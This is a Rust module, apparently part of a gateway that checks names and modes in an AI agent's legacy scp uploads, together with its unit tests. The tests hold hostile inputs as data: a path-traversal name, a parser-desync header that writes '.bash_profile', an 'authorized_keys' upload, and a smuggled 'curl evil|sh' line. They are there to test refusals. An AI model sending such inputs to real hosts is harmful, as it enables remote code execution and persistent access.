//! The legacy scp protocol's upload direction (`scp -t`, what `scp -O` runs on the host): the
//! name and mode of each file and directory the agent sends, so that each is checked where
//! it lands, as SFTP opens are. File contents pass through untouched.
//!
//! The source sends `C<mode> <size> <name>\n` then the bytes and a `\0`;
//! `D<mode> 0 <name>\n` to enter a directory, `E\n` to leave it, `T<mtime> 0 <atime> 0\n`
//! before either with `-p`, and `\x01`/`\x02` messages.

/// The longest header line, its newline included. OpenSSH's sink reads at most this many
/// bytes into a header and takes what follows as the next one; a longer line would be read
/// differently here and there, so it is refused.
const MAX_HEADER: usize = 2047;

/// What the stream carries, in order.
#[derive(Debug, PartialEq, Eq)]
pub enum Item {
    /// Bytes to pass to the host as they are.
    Pass(Vec<u8>),
    /// A file or directory about to be written: every path it may land at (the target
    /// itself when it names a file, or the name inside the target directory), and whether
    /// its mode sets the setuid or setgid bit. Its header follows as `Pass`.
    Entry {
        /// The paths it may land at.
        paths: Vec<String>,
        /// Whether the mode has setuid or setgid.
        setid: bool,
    },
    /// The stream cannot be read as scp: refuse it, with the reason.
    Refuse(String),
    /// Pass nothing more until the host has answered this many times, none with an error
    /// (after a file's header: a host that refused the file reads what follows as headers).
    Await(u64),
}

/// The host's answers to an upload as they pass back: one `\0` for each header, time line
/// and finished file, or an error message (`\x01`/`\x02` … `\n`).
#[derive(Debug, Default)]
pub struct Answers {
    state: std::sync::Mutex<AnswerState>,
    changed: tokio::sync::Notify,
}

#[derive(Debug, Default)]
struct AnswerState {
    ok: u64,
    failed: bool,
    in_message: bool,
    closed: bool,
}

impl Answers {
    /// Reads bytes the host sent to the agent.
    pub fn feed(&self, data: &[u8]) {
        if let Ok(mut s) = self.state.lock() {
            for b in data {
                if s.in_message {
                    s.in_message = *b != b'\n';
                    continue;
                }
                match b {
                    0 => s.ok += 1,
                    1 | 2 => {
                        s.failed = true;
                        s.in_message = true;
                    }
                    _ => {}
                }
            }
        }
        self.changed.notify_waiters();
    }

    /// The host's side ended.
    pub fn close(&self) {
        if let Ok(mut s) = self.state.lock() {
            s.closed = true;
        }
        self.changed.notify_waiters();
    }

    /// Waits until the host has answered `n` times; `false` when an answer was an error or
    /// the host's side ended first.
    pub async fn wait(&self, n: u64) -> bool {
        loop {
            let notified = self.changed.notified();
            tokio::pin!(notified);
            notified.as_mut().enable();
            {
                let Ok(s) = self.state.lock() else {
                    return false;
                };
                if s.failed {
                    return false;
                }
                if s.ok >= n {
                    return true;
                }
                if s.closed {
                    return false;
                }
            }
            notified.await;
        }
    }
}

/// One upload's state.
#[derive(Debug)]
pub struct Upload {
    target: String,
    dirs: Vec<String>,
    /// File bytes (and the `\0` after them) still to pass before the next header.
    remaining: u64,
    line: Vec<u8>,
    failed: bool,
    /// How many answers the host gives for what has passed (its first `\0` says it is
    /// ready).
    answers: u64,
}

impl Upload {
    /// The upload run by `command` (`scp [-r] [-p] [-d] -t TARGET`), if it is one.
    pub fn new(command: &str) -> Option<Self> {
        let words: Vec<&str> = command.split_whitespace().collect();
        let name = words.first()?.rsplit('/').next()?;
        if name != "scp" {
            return None;
        }
        let mut options = true;
        let mut sink = false;
        let mut target = None;
        for w in &words[1..] {
            if options && *w == "--" {
                options = false;
            } else if options && w.starts_with('-') {
                // Only the flags OpenSSH's client gives the remote side: an option with a
                // value would make the target ambiguous.
                if w.starts_with("--") || !w[1..].chars().all(|c| "dprtvqT".contains(c)) {
                    return None;
                }
                sink |= w.contains('t');
            } else if target.is_some() {
                return None;
            } else {
                target = Some((*w).to_owned());
            }
        }
        sink.then(|| Self {
            target: target.unwrap_or_else(|| ".".into()),
            dirs: Vec::new(),
            remaining: 0,
            line: Vec::new(),
            failed: false,
            answers: 1,
        })
    }

    /// Reads the next bytes from the agent.
    pub fn feed(&mut self, mut data: &[u8]) -> Vec<Item> {
        let mut out = Vec::new();
        while !data.is_empty() && !self.failed {
            if self.remaining > 0 {
                let n = usize::try_from(self.remaining)
                    .unwrap_or(usize::MAX)
                    .min(data.len());
                // The byte after a file's contents is `\0` (anything else is an error
                // message the host's sink reads in its place).
                if n as u64 == self.remaining && data[n - 1] != 0 {
                    self.fail(&mut out, "an scp file does not end as the protocol says");
                    break;
                }
                out.push(Item::Pass(data[..n].to_vec()));
                self.remaining -= n as u64;
                data = &data[n..];
                if self.remaining == 0 {
                    // The file's end: the host answers once it is written.
                    self.answers += 1;
                }
                continue;
            }
            let Some(nl) = data.iter().position(|b| *b == b'\n') else {
                self.line.extend_from_slice(data);
                if self.line.len() >= MAX_HEADER {
                    self.fail(&mut out, "an scp header line is too long");
                }
                break;
            };
            self.line.extend_from_slice(&data[..=nl]);
            data = &data[nl + 1..];
            if self.line.len() > MAX_HEADER {
                self.fail(&mut out, "an scp header line is too long");
                break;
            }
            let line = std::mem::take(&mut self.line);
            self.header(line, &mut out);
        }
        out
    }

    fn fail(&mut self, out: &mut Vec<Item>, why: &str) {
        self.failed = true;
        out.push(Item::Refuse(why.to_owned()));
    }

    fn header(&mut self, line: Vec<u8>, out: &mut Vec<Item>) {
        let Ok(text) = std::str::from_utf8(&line[..line.len() - 1]) else {
            return self.fail(
                out,
                "an scp file name is not valid UTF-8, so it cannot be checked",
            );
        };
        match line.first() {
            Some(b'C' | b'D') => {
                let mut parts = text[1..].splitn(3, ' ');
                let (Some(mode), Some(size), Some(name)) =
                    (parts.next(), parts.next(), parts.next())
                else {
                    return self.fail(out, "an scp header cannot be read");
                };
                // As OpenSSH reads them: four octal digits, then decimal digits.
                let octal = mode.len() == 4 && mode.bytes().all(|b| (b'0'..=b'7').contains(&b));
                let decimal = !size.is_empty() && size.bytes().all(|b| b.is_ascii_digit());
                let (true, true, Ok(mode), Ok(size)) = (
                    octal,
                    decimal,
                    u32::from_str_radix(mode, 8),
                    size.parse::<u64>(),
                ) else {
                    return self.fail(out, "an scp header cannot be read");
                };
                // The host reads the name as a C string: a NUL (or any control byte) would
                // end it elsewhere than here.
                if name.is_empty()
                    || name == "."
                    || name == ".."
                    || name.contains('/')
                    || name.bytes().any(|b| b < 0x20)
                {
                    return self.fail(out, "an scp file name that is a path is refused");
                }
                let mut paths = Vec::new();
                if self.dirs.is_empty() {
                    // The target names the file itself, or a directory it goes in.
                    paths.push(self.target.clone());
                }
                let mut inside = self.target.trim_end_matches('/').to_owned();
                for d in &self.dirs {
                    inside.push('/');
                    inside.push_str(d);
                }
                inside.push('/');
                inside.push_str(name);
                paths.push(inside);
                out.push(Item::Entry {
                    paths,
                    setid: mode & 0o6000 != 0,
                });
                if line[0] == b'C' {
                    self.remaining = size.saturating_add(1);
                } else {
                    self.dirs.push(name.to_owned());
                }
                // What follows waits for the host's answer to this header: if it refused
                // the file, it reads the next bytes as headers, not as the file.
                self.answers += 1;
                out.push(Item::Pass(line));
                out.push(Item::Await(self.answers));
                return;
            }
            Some(b'E') => {
                self.dirs.pop();
                self.answers += 1;
            }
            // Times: `T<mtime> 0 <atime> 0`, digits only.
            Some(b'T') => {
                let fields: Vec<&str> = text[1..].split(' ').collect();
                if fields.len() != 4
                    || fields
                        .iter()
                        .any(|f| f.is_empty() || !f.bytes().all(|b| b.is_ascii_digit()))
                {
                    return self.fail(out, "an scp times line cannot be read");
                }
                self.answers += 1;
            }
            Some(1 | 2) => {}
            _ => return self.fail(out, "the scp stream cannot be read"),
        }
        out.push(Item::Pass(line));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entries(items: &[Item]) -> Vec<(Vec<String>, bool)> {
        items
            .iter()
            .filter_map(|i| match i {
                Item::Entry { paths, setid } => Some((paths.clone(), *setid)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn names_and_modes_are_found_across_packets() {
        let mut u = Upload::new("scp -r -t .").unwrap();
        let stream =
            b"D0755 0 .ssh\nC0600 5 authorized_keys\nhello\0E\nT1 0 1 0\nC4755 2 tool\nhi\0";
        let mut items = Vec::new();
        // Byte by byte: headers split anywhere.
        for b in stream {
            items.extend(u.feed(&[*b]));
        }
        assert_eq!(
            entries(&items),
            [
                (vec![".".to_owned(), "./.ssh".to_owned()], false),
                (vec!["./.ssh/authorized_keys".to_owned()], false),
                (vec![".".to_owned(), "./tool".to_owned()], true),
            ]
        );
        let passed: Vec<u8> = items
            .iter()
            .flat_map(|i| match i {
                Item::Pass(b) => b.clone(),
                _ => Vec::new(),
            })
            .collect();
        assert_eq!(passed, stream);
        // Each header waits for the host's answer to it (the first answer is its "ready").
        let waits: Vec<u64> = items
            .iter()
            .filter_map(|i| match i {
                Item::Await(n) => Some(*n),
                _ => None,
            })
            .collect();
        assert_eq!(waits, [2, 3, 7]);
    }

    #[test]
    fn unreadable_streams_are_refused() {
        let mut u = Upload::new("scp -t /tmp/x").unwrap();
        assert!(matches!(
            u.feed(b"C0644 1 ../x\n").last(),
            Some(Item::Refuse(_))
        ));
        let mut u = Upload::new("scp -t /tmp/x").unwrap();
        assert!(matches!(u.feed(b"Q\n").last(), Some(Item::Refuse(_))));
        let mut u = Upload::new("scp -t /tmp/x").unwrap();
        assert!(matches!(
            u.feed(&vec![b'C'; MAX_HEADER + 10]).last(),
            Some(Item::Refuse(_))
        ));
        assert!(Upload::new("scp -f /etc/hosts").is_none());
        assert!(Upload::new("scp -t .ssh -P 22").is_none());
        let mut u = Upload::new("scp -r -t .").unwrap();
        assert!(matches!(
            u.feed(b"D0755 0 .ssh\0x\n").last(),
            Some(Item::Refuse(_))
        ));
        // A file's contents not followed by `\0`.
        let mut u = Upload::new("scp -t .").unwrap();
        assert!(matches!(
            u.feed(b"C0644 1 a\nx\x01T1 0 1 0\n").last(),
            Some(Item::Refuse(_))
        ));
        // A header longer than OpenSSH's sink reads: refused, not read differently.
        let mut u = Upload::new("scp -t .").unwrap();
        let mut long = vec![1u8];
        long.extend(vec![b'A'; 2046]);
        long.extend_from_slice(b"C0644 22 .bash_profile\n");
        assert!(matches!(u.feed(&long).last(), Some(Item::Refuse(_))));
        let mut u = Upload::new("scp -t .").unwrap();
        assert!(matches!(
            u.feed(b"T=1;curl evil|sh;#\n").last(),
            Some(Item::Refuse(_))
        ));
    }
}
